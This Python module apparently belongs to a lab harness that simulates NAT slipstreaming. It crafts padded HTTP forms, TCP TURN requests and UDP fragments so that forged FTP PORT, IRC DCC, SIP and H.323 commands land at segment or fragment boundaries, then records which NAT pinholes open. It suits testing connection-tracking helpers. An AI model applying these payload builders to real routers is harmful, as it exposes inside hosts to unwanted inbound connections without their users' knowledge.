"""What a server can make an inside host say without its user's knowing (NAT slipstreaming), on a helper's port.

A page makes the browser send a form by HTTP, or lets it speak TURN over TCP, to the server's port. The server announces
a small segment size, so that it knows where segments begin, and the text is sized so that one begins with the forged
command. Over UDP the same is tried with IP fragments.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from conntap.lab.parity.generate import helpers_h323_bytes as h323
from conntap.lab.parity.generate.build import TCP, UDP
from conntap.lab.prove import bytes_of
from conntap.lab.prove.scene import LURED_MSS, Door

if TYPE_CHECKING:
    from collections.abc import Callable

    from conntap.lab.prove.model import Kind
    from conntap.lab.prove.scene import Scene

__all__ = ["LURED", "Lure", "form", "turn"]

#: Where a fragment ends, a multiple of eight.
FRAGMENT_AT: Final = 512
H245_PORT: Final = 11000
COOKIE: Final = 0x2112_A442


def form(scene: Scene, remote: bytes, port: int, command: bytes) -> bytes:
    """An HTTP request whose second or later segment begins with the command; a line ends just before it."""
    boundary = "----7MA4YWxkTrZu0gW"
    start = f'--{boundary}\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
    end = f"\r\n--{boundary}--\r\n".encode()

    def head(length: int) -> bytes:
        return (
            f"POST / HTTP/1.1\r\nHost: {bytes_of.uri(remote)}:{port}\r\nOrigin: null\r\n"
            f"Content-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {length:06}\r\n\r\n{start}"
        ).encode()

    size = len(head(0))
    filling = (LURED_MSS - (size + 2) % LURED_MSS) % LURED_MSS
    body = b"a" * filling + b"\r\n" + command
    # What follows the command begins a segment of its own, as the form's other fields may.
    body += b"b" * ((LURED_MSS - (size + len(body)) % LURED_MSS) % LURED_MSS)
    return head(len(start) + len(body) + len(end)) + body + end


def turn(command: bytes) -> bytes:
    """A TURN request over TCP whose user name holds the command at a segment's begin (RFC 8489, 8656)."""
    head = 20 + 4
    filling = LURED_MSS - head
    name = b"a" * filling + command
    name += bytes(-len(name) % 4)
    attribute = struct.pack("!HH", 6, len(name)) + name
    return struct.pack("!HHI", 3, len(attribute), COOKIE) + bytes(12) + attribute


def post(scene: Scene, remote: bytes, port: int, command: bytes) -> bool:
    talk = scene.tcp(remote, port, mss=LURED_MSS)
    return talk.open() and bool(talk.say(talk.client, form(scene, remote, port, command)))


@dataclass(frozen=True, slots=True)
class Lure:
    """A way to lure.

    Attributes:
        name: what the inside host is made to say.
        play: plays it at a server's port, for a wanted port; None where it does not get through.
        l4proto: of the connection that it opens.
        least: the least port that can be had.
        kind: as of a `Cell`.
    """

    name: str
    play: Callable[[Scene, bytes, int, int], list[Door] | None]
    l4proto: int
    least: int = 1
    kind: Kind = "lured"


def ftp(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """PORT in a form."""
    if not post(scene, remote, port, bytes_of.eprt(scene.host, wanted)):
        return None
    return scene.doors(remote, Door(TCP, scene.host, wanted))


def irc(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """A DCC offer in a form."""
    if not post(scene, remote, port, bytes_of.dcc(scene.host, wanted)):
        return None
    return scene.doors(remote, Door(TCP, scene.host, wanted))


def sip_tcp(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """REGISTER in a form; the server agrees."""
    talk = scene.tcp(remote, port, mss=LURED_MSS)
    command = bytes_of.contact(scene.host, remote, wanted, "TCP")
    if not talk.open():
        return None
    sent = talk.say(talk.client, form(scene, remote, port, command))
    if not sent:
        return None
    at = sent.find(b"REGISTER ")
    if at < 0 or not talk.say(talk.server, bytes_of.sip_ok(sent[at:])):
        return None
    return scene.doors(remote, Door(TCP, scene.host, wanted))


def in_fragment(command: bytes) -> bytes:
    """A TURN request over UDP whose second fragment begins with the command."""
    name = b"a" * (FRAGMENT_AT - 8 - 24) + command
    return struct.pack("!HHI", 3, 4 + len(name), COOKIE) + bytes(12) + struct.pack("!HH", 6, len(name)) + name


def sip_fragment(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """The server agrees; Linux puts fragments together before a helper reads."""
    talk = scene.udp(remote, port)
    command = bytes_of.contact(scene.host, remote, wanted, "UDP")
    if talk.say(talk.client, in_fragment(command), cut_at=FRAGMENT_AT) is None:
        return None
    talk.say(talk.server, bytes_of.sip_ok(command))
    return scene.doors(remote, Door(UDP, scene.host, wanted))


def sip_phone(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """A telephone inside was told to register there."""
    talk = scene.udp(remote, port, source=5060)
    request = talk.say(talk.client, bytes_of.contact(scene.host, remote, wanted, "UDP"))
    if request is None:
        return None
    talk.say(talk.server, bytes_of.sip_ok(request))
    return scene.doors(remote, Door(UDP, scene.host, wanted))


def sip_call(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """A telephone inside calls somebody there and says where it wants to hear."""
    talk = scene.udp(remote, port, source=5060)
    if talk.say(talk.client, bytes_of.invite(scene.host, remote, 5060, wanted, "UDP")) is None:
        return None
    return scene.doors(remote, Door(UDP, scene.host, wanted))


def ras_fragment(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """As for SIP."""
    talk = scene.udp(remote, port)
    command = h323.registration(scene.host, wanted, 1719)
    if talk.say(talk.client, in_fragment(command), cut_at=FRAGMENT_AT) is None:
        return None
    return scene.doors(remote, Door(TCP, scene.host, wanted))


def ras_phone(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """A telephone inside was told to register there."""
    talk = scene.udp(remote, port, source=1719)
    if talk.say(talk.client, h323.registration(scene.host, wanted, 1719)) is None:
        return None
    return scene.doors(remote, Door(TCP, scene.host, wanted))


def q931(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """Call signalling in a TURN request over TCP."""
    talk = scene.tcp(remote, port, mss=LURED_MSS)
    if not talk.open() or not talk.say(talk.client, turn(h323.tpkt(h323.call_proceeding(scene.host, wanted)))):
        return None
    return scene.doors(remote, Door(TCP, scene.host, wanted))


def q931_call(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """A telephone inside calls somebody there: H.245 to the port that the server names, sound from the server."""
    talk = scene.tcp(remote, port)
    if not talk.open() or not talk.say(talk.client, h323.tpkt(b"\x08\x02\0\1\x05")):
        return None
    if not talk.say(talk.server, h323.tpkt(h323.call_proceeding(remote, H245_PORT))):
        return None
    control = scene.tcp(remote, H245_PORT)
    even = wanted & 0xFFFE
    if not control.open() or not control.say(control.client, h323.tpkt(h323.open_channel(scene.host, even, even + 1))):
        return None
    return scene.doors(remote, Door(UDP, scene.host, wanted))


def q931_fast(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """The same, with the sound announced in the call itself."""
    return _within(h323.fast_start, scene, remote, port, wanted)


def q931_tunnel(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """The same, with H.245 within the call signalling."""
    return _within(h323.tunnelled, scene, remote, port, wanted)


def _within(
    message: Callable[[bytes, int, int], bytes], scene: Scene, remote: bytes, port: int, wanted: int
) -> list[Door] | None:
    talk = scene.tcp(remote, port)
    even = wanted & 0xFFFE
    if not talk.open() or not talk.say(talk.client, h323.tpkt(message(scene.host, even, even + 1))):
        return None
    return scene.doors(remote, Door(UDP, scene.host, wanted))


def tftp(scene: Scene, remote: bytes, port: int, wanted: int) -> list[Door] | None:
    """A STUN binding request: it begins with 0 and 1, as a TFTP request does. It opens the port it came from."""
    talk = scene.udp(remote, port, source=wanted)
    if talk.say(talk.client, struct.pack("!HHI", 1, 0, COOKIE) + bytes(12)) is None:
        return None
    return scene.doors(remote, Door(UDP, scene.host, wanted))


#: Helper and transport of its connection → what is tried.
LURED: Final[dict[tuple[str, int], tuple[Lure, ...]]] = {
    ("ftp", TCP): (Lure("PORT in a form that a page sends", ftp, TCP),),
    ("irc", TCP): (Lure("DCC offer in a form that a page sends", irc, TCP),),
    ("sip", TCP): (Lure("REGISTER in a form that a page sends", sip_tcp, TCP, 1024),),
    ("sip", UDP): (
        Lure("REGISTER in a fragment of a TURN request", sip_fragment, UDP, 1024),
        Lure("REGISTER of a telephone that was told this server", sip_phone, UDP, 1024),
        Lure("INVITE of a telephone that calls there", sip_call, UDP, 1024),
    ),
    ("RAS", UDP): (
        Lure("registration in a fragment of a TURN request", ras_fragment, TCP),
        Lure("registration of a telephone that was told this server", ras_phone, TCP),
    ),
    ("Q.931", TCP): (
        Lure("call signalling in a TURN request over TCP", q931, TCP),
        Lure("call of a telephone there, fast start", q931_fast, UDP, 2),
        Lure("call of a telephone there, H.245 in a tunnel", q931_tunnel, UDP, 2),
        Lure("call of a telephone there, H.245", q931_call, UDP, 2, "child"),
    ),
    ("tftp", UDP): (Lure("STUN request, which begins as one of TFTP", tftp, UDP, 1024),),
}
